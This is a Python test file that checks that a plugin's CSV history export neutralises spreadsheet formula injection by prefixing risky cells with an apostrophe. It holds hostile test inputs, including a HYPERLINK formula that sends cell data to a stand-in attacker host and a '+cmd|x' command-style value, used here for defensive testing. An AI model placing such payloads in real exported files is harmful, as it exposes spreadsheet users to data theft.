"""Review R9 F5 (CSV/formula injection): ``history --csv`` writes run names and a change log's
user/host, untrusted (anyone may name a run folder in a shared logdir, or append to a bucket's
change log), into cells. A cell a spreadsheet takes for a formula (= + - @, a tab, a carriage
return at its start) is written with a leading ``'`` (OWASP), by the one rule every CSV of the
package goes through (``fmt.csv_cell``); ``--json`` keeps the name as it is."""
import csv
import io
import json
import math
import os

from helpers_cli import run_cli
from tb_footprint_plugin import api, synth

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_csv_cell_makes_every_formula_start_text():
    from tb_footprint_plugin.fmt import csv_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("runs/a=1") == "runs/a=1" and csv_cell("") == ""
    assert csv_cell(-5) == -5 and csv_cell(1.5) == 1.5 and csv_cell(None) is None  # numbers stay numbers


def test_history_csv_writes_untrusted_fields_as_text():
    entry = {"time": "2026-12-06T01:00:00+00:00", "op_id": "op", "kind": "reduce", "run": EVIL, "user": "+cmd|x",
             "host": "@SUM(1)", "reason": "-2+3", "before": 100, "after": -1, "outcome": "\tverified"}
    rows = list(csv.DictReader(io.StringIO(api.history_csv([entry]))))
    assert rows[0]["run"] == "'" + EVIL and rows[0]["user"] == "'+cmd|x" and rows[0]["host"] == "'@SUM(1)"
    assert rows[0]["reason"] == "'-2+3" and rows[0]["outcome"] == "'\tverified"
    assert rows[0]["before"] == "100" and rows[0]["after"] == "-1"  # a number is no formula


def test_history_csv_of_a_run_named_like_a_formula(tmp_path):
    """R9's reproduction (the CLI end to end), and --json keeps the name."""
    logdir = tmp_path / "logs"
    with synth.EventWriter(str(logdir / EVIL)) as w:
        for s in range(40):
            w.scalar("loss", s, math.exp(-s / 10.0))
            w.image("img", s, synth.make_png(8, 8, seed=s), 8, 8)
    for d, dirs, files in os.walk(logdir):
        for n in dirs + files:
            os.utime(os.path.join(d, n), (1_600_000_000, 1_600_000_000))
    red = run_cli("reduce", logdir, "--yes", "--quiet-period", "0", "--verify", "python")
    assert red.returncode == 0, red.stdout + red.stderr
    out = run_cli("history", logdir, "--csv")
    assert out.returncode == 0, out.stderr
    cells = [c for row in csv.reader(io.StringIO(out.stdout)) for c in row]
    assert EVIL not in cells and not any(c[:1] in ("=", "+", "@") for c in cells), cells
    run = next(c for c in cells if c.startswith("'=HYPERLINK("))  # the run (its '//' is a folder's '/')
    js = run_cli("history", logdir, "--json")
    assert js.returncode == 0, js.stderr
    assert run[1:] in [e.get("run") for e in json.loads(js.stdout)]
